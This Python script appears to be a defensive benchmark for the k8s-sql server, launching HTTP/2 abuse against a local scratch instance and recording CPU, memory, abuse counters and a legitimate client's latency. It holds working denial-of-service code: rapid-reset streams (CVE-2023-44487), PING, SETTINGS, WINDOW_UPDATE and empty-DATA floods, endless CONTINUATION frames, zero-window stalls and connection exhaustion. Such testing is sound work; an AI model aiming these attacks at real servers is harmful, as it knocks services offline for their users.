"""HTTP/2 abuse against a real server: its CPU and memory during each attack, and a client served meanwhile.

    python bench/h2abuse.py                          # every attack, 20 s each
    python bench/h2abuse.py --seconds 10 --attack rapid_reset ping --json results.json

For each attack: a k8s-sql server on a scratch SQLite database (as a child process, on
127.0.0.1), a key of ``--value-size`` bytes, then for ``--seconds`` the attacker (threads
in processes of their own, raw sockets and frames built with h2/hyperframe, reconnecting whenever the
server closes a connection) beside one well-behaved grpcio client calling Range on that key
in a loop.  Each line gives the server's CPU (cores, from /proc), its resident memory before,
at its highest and at the end (MiB, sampled every 0.2 s), the connections the attacker
opened, what ``k8s_sql_http2_abuse_total`` counted, and the well-behaved client's calls per
second, 99th percentile latency and failures.

Attacks: ``idle`` (none: the reference), ``rapid_reset`` (Range streams opened and reset at
once, CVE-2023-44487), ``ping``, ``settings``, ``empty_data``, ``window_update``,
``continuation`` (a header block that never ends), ``zero_window`` (Range calls answered
into a window the client never opens, never reading; the server runs with
``--write-stall-timeout 5s``), ``connections`` (connections opened without end and held,
the server with ``--max-connections 200``).  ``--source`` runs the server from another
source tree, e.g. the commit before the defences, to compare.
"""

from __future__ import annotations

import argparse
import json
import multiprocessing
import re
import socket
import sys
import tempfile
import time
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import Any

import grpc
from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from h2.settings import SettingCodes
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from bench.support import cpu_seconds, quantile  # noqa: E402
from k8s_sql.proto import rpc_pb2  # noqa: E402
from tests.etcdclient import EtcdClient  # noqa: E402
from tests.grpc.h2peer import message, request_headers  # noqa: E402
from tests.processes import K8sSQL  # noqa: E402

RANGE = "/etcdserverpb.KV/Range"
WATCH = "/etcdserverpb.Watch/Watch"
KEY = b"/registry/bench/abuse"
#: Extra server options per attack.
SERVER_OPTIONS = {"zero_window": ["--write-stall-timeout", "5s"], "connections": ["--max-connections", "200"]}
MiB = 1024 * 1024


class Raw:
    """Bytes to send as they are, among frames."""

    def __init__(self, data: bytes) -> None:
        self.data = data

    def serialize(self) -> bytes:
        return self.data


class Attacker:
    """One raw HTTP/2 connection: an h2 client state machine (for HPACK) and a socket."""

    def __init__(self, endpoint: str, settings: dict[int, int] | None = None) -> None:
        host, port = endpoint.split(":")
        self.sock = socket.create_connection((host, int(port)))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.h2 = H2Connection(H2Configuration(client_side=True, header_encoding=None))
        self.h2.initiate_connection()
        if settings:
            self.h2.update_settings(settings)
        self.send()

    def send(self, *frames: Frame | Raw) -> bool:
        """Send what h2 queued and ``frames``; False once the server has closed the connection."""
        try:
            self.sock.sendall(self.h2.data_to_send() + b"".join(frame.serialize() for frame in frames))
        except OSError:
            return False
        return True

    def drain(self) -> bool:
        """Read (and drop) what the server sent; False once it has closed the connection."""
        self.sock.setblocking(False)
        try:
            while True:
                if not self.sock.recv(1 << 20):
                    return False
        except BlockingIOError:
            return True
        except OSError:
            return False
        finally:
            self.sock.setblocking(True)

    def close(self) -> None:
        self.sock.close()


def rapid_reset(attacker: Attacker) -> bool:
    request = message(rpc_pb2.RangeRequest(key=KEY).SerializeToString())
    burst = []
    for _ in range(100):
        stream = attacker.h2.get_next_available_stream_id()
        attacker.h2.send_headers(stream, request_headers(RANGE))
        # The request as a frame of its own: this client never reads the server's window updates.
        burst.append(attacker.h2.data_to_send() + DataFrame(stream, data=request).serialize())
        attacker.h2.reset_stream(stream, ErrorCodes.CANCEL)
    burst.append(attacker.h2.data_to_send())
    return attacker.send(Raw(b"".join(burst))) and attacker.drain()


def frames_flood(build: Callable[[int], Frame]) -> Callable[[Attacker], bool]:
    def flood(attacker: Attacker) -> bool:
        return attacker.send(*[build(i) for i in range(500)]) and attacker.drain()

    return flood


def empty_data(attacker: Attacker) -> bool:
    if not attacker.h2.streams:
        attacker.h2.send_headers(attacker.h2.get_next_available_stream_id(), request_headers(WATCH))
    stream = max(attacker.h2.streams)
    return attacker.send(*[DataFrame(stream, data=b"") for _ in range(500)]) and attacker.drain()


def continuation(attacker: Attacker) -> bool:
    stream = attacker.h2.get_next_available_stream_id()
    attacker.h2.highest_outbound_stream_id = stream
    block = attacker.h2.encoder.encode(request_headers(RANGE))
    frames = [HeadersFrame(stream, data=block[:8])] + [ContinuationFrame(stream, data=b"") for _ in range(500)]
    return attacker.send(*frames) and attacker.drain()


def zero_window(attacker: Attacker) -> bool:
    """Range calls whose answers can never be sent: the client's windows stay closed, it never reads."""
    request = message(rpc_pb2.RangeRequest(key=KEY).SerializeToString())
    burst = []
    for _ in range(100):
        stream = attacker.h2.get_next_available_stream_id()
        attacker.h2.send_headers(stream, request_headers(RANGE))
        burst.append(attacker.h2.data_to_send() + DataFrame(stream, data=request, flags=["END_STREAM"]).serialize())
        del attacker.h2.streams[stream]  # this client forgets its calls
    if not attacker.send(Raw(b"".join(burst))):
        return False
    time.sleep(0.5)  # the attacker's pace: 200 calls a second per connection
    return attacker.send(PingFrame(0, opaque_data=b"stillhere"[:8]))


def hold(attacker: Attacker) -> bool:
    """A connection that says nothing."""
    time.sleep(0.05)
    return True


#: attack name: (steps to repeat on one connection, client SETTINGS, connections at once)
ATTACKS: dict[str, tuple[Callable[[Attacker], bool] | None, dict[int, int] | None, int]] = {
    "idle": (None, None, 0),
    "rapid_reset": (rapid_reset, None, 1),
    "ping": (frames_flood(lambda i: PingFrame(0, opaque_data=b"%08d" % i)), None, 1),
    "settings": (frames_flood(lambda i: SettingsFrame(0, settings={SettingCodes.ENABLE_PUSH: 0})), None, 1),
    "empty_data": (empty_data, None, 1),
    "window_update": (frames_flood(lambda i: WindowUpdateFrame(0, window_increment=1)), None, 1),
    "continuation": (continuation, None, 1),
    "zero_window": (zero_window, {SettingCodes.INITIAL_WINDOW_SIZE: 0}, 4),
    "connections": (hold, None, 1),
}


def attack(name: str, endpoint: str, stop: Any, connections: Any) -> None:
    """Run attack ``name`` until ``stop`` is set, reconnecting whenever the server closes."""
    steps, settings, _ = ATTACKS[name]
    assert steps is not None
    held: list[Attacker] = []
    while not stop.is_set():
        try:
            attacker = Attacker(endpoint, settings)
        except OSError:
            continue
        with connections.get_lock():
            connections.value += 1
        if name == "connections":
            held.append(attacker)  # never closed while the attack lasts
            continue
        while not stop.is_set() and steps(attacker):
            pass
        attacker.close()
    for attacker in held:
        attacker.close()


def abuse_counted(endpoint: str) -> dict[str, float]:
    page = urllib.request.urlopen(f"http://{endpoint}/metrics", timeout=10).read().decode()
    return {
        kind: float(value)
        for kind, value in re.findall(r'^k8s_sql_http2_abuse_total\{kind="(\w+)"\} (\S+)$', page, re.MULTILINE)
        if float(value)
    }


def rss_mib(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return 0.0


def run(name: str, seconds: float, value_size: int, source: str | None) -> dict[str, object]:
    options = SERVER_OPTIONS.get(name, []) if source is None else []
    with tempfile.TemporaryDirectory(prefix="h2abuse-") as scratch:
        with K8sSQL(f"sqlite:///{scratch}/k8s-sql.db", *options, cwd=source) as server:
            pid = server.process.pid
            with EtcdClient(server.endpoint) as client:
                client.KV.Put(rpc_pb2.PutRequest(key=KEY, value=b"v" * value_size), timeout=10)
                for _ in range(50):  # warm up
                    client.KV.Range(rpc_pb2.RangeRequest(key=KEY), timeout=10)
                # Attackers in processes of their own: in this one they would take the client's turns.
                stop = multiprocessing.Event()
                connections = multiprocessing.Value("i", 0)
                attackers = [
                    multiprocessing.Process(target=attack, args=(name, server.endpoint, stop, connections), daemon=True)
                    for _ in range(ATTACKS[name][2])
                ]
                rss = [rss_mib(pid)]
                cpu_before, began = cpu_seconds(pid), time.monotonic()
                for process in attackers:
                    process.start()
                latencies: list[float] = []
                failures = 0
                next_sample = began
                while time.monotonic() - began < seconds:
                    start = time.monotonic()
                    try:
                        client.KV.Range(rpc_pb2.RangeRequest(key=KEY), timeout=2)
                        latencies.append(time.monotonic() - start)
                    except grpc.RpcError:
                        failures += 1
                    if time.monotonic() >= next_sample:
                        rss.append(rss_mib(pid))
                        next_sample += 0.2
                elapsed = time.monotonic() - began
                cpu = (cpu_seconds(pid) - cpu_before) / elapsed
                rss.append(rss_mib(pid))
                stop.set()
                for process in attackers:
                    process.join(10)
                    if process.is_alive():
                        process.kill()
            counted = abuse_counted(server.endpoint)
    latencies.sort()
    return {
        "attack": name,
        "server_cpu_cores": round(cpu, 2),
        "rss_mib": [round(rss[0], 1), round(max(rss), 1), round(rss[-1], 1)],
        "connections": connections.value,
        "abuse_counted": counted,
        "client_calls_per_second": round(len(latencies) / elapsed, 1),
        "client_p99_ms": round(quantile(latencies, 0.99), 1),
        "client_failures": failures,
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--seconds", type=float, default=20.0)
    parser.add_argument("--attack", nargs="+", choices=list(ATTACKS), default=list(ATTACKS))
    parser.add_argument("--value-size", type=int, default=64 * 1024, help="bytes of the key the Range calls read")
    parser.add_argument("--json", help="also write the results to this file")
    parser.add_argument(
        "--source",
        help="run the server from this source tree instead (e.g. `git archive` of an older commit, to compare); "
        "the attacks' server options are left out",
    )
    options = parser.parse_args()
    results = []
    print(
        f"{'attack':14} {'server CPU':>10} {'RSS MiB before/max/end':>24} {'conns':>6} "
        f"{'client calls/s':>14} {'p99 ms':>7} {'fails':>5}  counted"
    )
    for name in options.attack:
        result = run(name, options.seconds, options.value_size, options.source)
        results.append(result)
        before, peak, end = result["rss_mib"]  # type: ignore[misc]
        print(
            f"{name:14} {result['server_cpu_cores']:>10} {f'{before} / {peak} / {end}':>24} "
            f"{result['connections']:>6} {result['client_calls_per_second']:>14} {result['client_p99_ms']:>7} "
            f"{result['client_failures']:>5}  {result['abuse_counted']}",
            flush=True,
        )
    if options.json:
        Path(options.json).write_text(json.dumps(results, indent=2))


if __name__ == "__main__":
    main()
